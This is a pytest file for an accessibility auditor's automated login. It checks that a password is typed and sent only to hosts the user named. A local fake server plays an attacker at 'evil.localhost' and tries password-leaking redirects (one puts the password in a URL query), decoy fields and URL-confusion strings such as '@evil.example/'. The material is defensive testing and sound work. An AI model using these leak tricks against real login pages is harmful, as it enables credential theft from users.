"""A password is typed and sent only where the user said, whatever the page that asks for it does."""

import asyncio
import base64
import json
import tomllib
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from a11ycheck.browser.chromium import find
from a11ycheck.errors import A11yCheckError, TargetError
from a11ycheck.logins import LOGINS
from a11ycheck.logins.fill import sign_in
from a11ycheck.logins.held_network import HeldNetwork
from a11ycheck.logins.interface import Account
from a11ycheck.logins.login import Login
from a11ycheck.logins.named_sockets import sign_in_context
from a11ycheck.web.access import Access
from a11ycheck.web.named_origins import NamedOrigins, read_host
from fixtures.sites.serving import Answering, running
from tests.shared_browser import open_browser, run

pytestmark = [pytest.mark.browser, pytest.mark.early]

ME = Account("mila@school.example", "Pear tree/42+é")
SPELLINGS = {
    ME.password, quote(ME.password), base64.b64encode(ME.password.encode()).decode().rstrip("="), "Pear",
}  # fmt: skip
FIELDS = '<input name="user" type="text"><input name="password" type="password">'
FORM = f'<form method="post" action="/in">{FIELDS}<button>Sign in</button></form>'
PAGES = tomllib.loads(Path(__file__).with_name("hostile_pages.toml").read_text(encoding="utf-8"))
RULES_TYPE = "application/speculationrules+json"
AHEAD = json.dumps({kind: [{"source": "document", "eagerness": "immediate"}] for kind in ("prefetch", "prerender")})
DECOY_FORM = FORM.replace('<input name="user"', "".join(PAGES["decoys"].values()) + '<input name="user"', 1)


def filled(page, evil):
    page = page.replace("FORM", FORM).replace("FIELDS", FIELDS)
    return page.replace("EVILHOST", evil.removeprefix("http://")).replace("EVIL", evil)


class Server(Answering):
    """The school's host and the attacker's: `got` has what each was sent, `page` what the school shows."""

    got: list
    page = ""

    def do_GET(self):
        body = self.rfile.read(int(self.headers.get("Content-Length") or 0)).decode()
        host, path = self.headers["Host"], urlsplit(self.path).path
        self.got.append((host.partition(":")[0], self.path, body, str(self.headers)))
        evil = f"http://evil.localhost:{self.server.server_port}"
        if path.startswith("/moved"):
            self.send(int(path[6:]), "", Location=f"{evil}/in", Access_Control_Allow_Origin="*")
        elif path == "/on":
            self.send(307, "", Location=f"{evil}/got?way=moved", Access_Control_Allow_Origin="*")
        elif path == "/leak":
            self.send(302, "", Location=f"{evil}/got?p={quote(ME.password)}")
        elif path in ("/passed-on", "/to-evil"):
            self.send(302, "", Location=f"{evil}/page?{urlsplit(self.path).query if path == '/passed-on' else ''}")
        elif path == "/in":
            type(self).page = "<a href=/logout>Out</a>"
            self.send(200, "<title>In</title><a href=/logout>Out</a>")
        elif path == "/page":
            self.send(200, f"<title>Evil</title>{FORM}{FORM.replace('<form', '<form class=login-form')}")
        elif path == "/":
            page = f"<!doctype html><html lang=en><title>Sign in</title><body>{filled(self.page, evil)}"
            self.send(200, page, Speculation_Rules=f'"/ahead.json", "data:{RULES_TYPE},{quote(AHEAD)}"')
        elif path == "/ahead.json":
            self.send(200, AHEAD, RULES_TYPE)
        elif path == "/worker.js":
            self.send(200, filled(PAGES["in_vain"]["worker"], evil), "text/javascript")
        else:
            self.send(200, "")

    do_POST = do_OPTIONS = do_GET

    def at(self, host):
        return [one for one in self.got if one[0] == host]


@contextmanager
def school():
    class Mine(Server):
        got = []

    with running(Mine) as url:
        yield f"http://school.localhost:{urlsplit(url).port}", Mine


async def attempt(browser, address, hosts=()):
    """Sign in as an audit does. Return the error, or None, and whom the password was given."""
    named = NamedOrigins((address,), hosts)
    async with sign_in_context(browser, Access(), named) as context:
        tab = await context.new_page()
        network = HeldNetwork(tab, named, address)
        try:
            async with network:
                await tab.goto(f"{address}/")
                await sign_in(tab, ME, LOGINS, network)
                await network.leave_pages()
                await tab.goto(f"{address}/nothing")
        except A11yCheckError as error:
            return error, network
        return None, network


def attempts(pages, browser=None):
    """Try these pages one after the other; yield each with the error, the network and what the hosts got."""

    async def every():
        results = []
        async with open_browser(browser and find(browser)) as opened:
            for name, page in pages.items():
                server.page = page
                server.got.clear()
                error, network = await attempt(opened, address)
                await asyncio.sleep(0.1)  # for what may still be on its way
                results.append((name, error, network, list(server.got)))
        return results

    with school() as (address, server):
        return run(every())


def leaks(got):
    """Return what the attacker was sent that has to do with the password."""
    evil = [one for one in got if one[0] == "evil.localhost"]
    return [one for one in evil if one[1].startswith(("/got", "/in")) or any(each in str(one) for each in SPELLINGS)]


def test_no_password_is_typed_where_the_form_leads_elsewhere():
    for name, error, network, got in attempts(PAGES["before_typing"]):
        assert isinstance(error, TargetError), name
        assert error.args[0] == "login-elsewhere", (name, error)
        assert not leaks(got), name
        assert not [one for one in got if "Pear" in str(one)], name
        assert not network._secrets, name


def test_what_is_typed_does_not_leave_for_another_host():
    for name, error, _, got in attempts(PAGES["after_typing"]):
        assert not leaks(got), (name, leaks(got))
        assert isinstance(error, TargetError), name
        assert error.args[0] == "login-elsewhere", (name, error)
        assert error.data["host"].startswith("evil.localhost:"), name


def test_a_page_that_passes_the_password_on_reaches_nobody():
    for name, error, _, got in attempts({"in vain": PAGES["in_vain"]["page"]}):
        assert not leaks(got), (name, leaks(got))
        assert error is None, error
        sent = [parse_qs(body) for host, path, body, _ in got if (host, path) == ("school.localhost", "/in")]
        assert sent[0]["password"] == [ME.password]


def test_fields_that_nobody_sees_are_left_empty():
    for _, error, _, got in attempts({"decoys": DECOY_FORM}):
        assert error is None, error
        sent = parse_qs(next(body for _, path, body, _ in got if path == "/in"), keep_blank_values=True)
        assert (sent["user"], sent["password"]) == ([ME.user], [ME.password])
        assert sent["decoy"] == [""] * (len(PAGES["decoys"]) + 1)


def test_a_host_that_was_named_gets_the_password_and_that_is_told():
    with school() as (address, server):
        evil = f"evil.localhost:{urlsplit(address).port}"
        server.page = FORM.replace("/in", "EVIL/in")

        async def sign_in_there(*hosts, page=""):
            async with open_browser() as browser:
                access = Access(origins=(address,), login_hosts=tuple(map(read_host, hosts)))
                login = Login(f"{address}/", account=ME, access=access, login_page=page)
                await login.begin(browser)
                return login.told

        with pytest.raises(TargetError, match="login-elsewhere"):
            run(sign_in_there())
        assert not leaks(server.got)
        assert run(sign_in_there(f"*.localhost:{urlsplit(address).port}")) == (evil,)
        assert len([one for one in server.got if one[0] == "evil.localhost" and "Pear" in one[2]]) == 1
        server.got.clear()
        assert run(sign_in_there(page=f"http://{evil}/page")) == (evil,)


def test_a_password_never_goes_from_https_to_http():
    network = HeldNetwork(None, NamedOrigins(("https://school.example",)), "https://school.example/")
    network.check("https://school.example/login")
    with pytest.raises(TargetError, match="login-open-line"):
        network.check("http://school.example/login")
    for elsewhere in (":8443/", "@evil.example/", ".evil.example/", "\\@evil.example/"):
        with pytest.raises(TargetError, match="login-elsewhere"):
            network.check(f"https://school.example{elsewhere}")
    with pytest.raises(TargetError, match="login-open-line"):
        HeldNetwork(None, NamedOrigins(("http://school.example",)), "").check("http://school.example/")
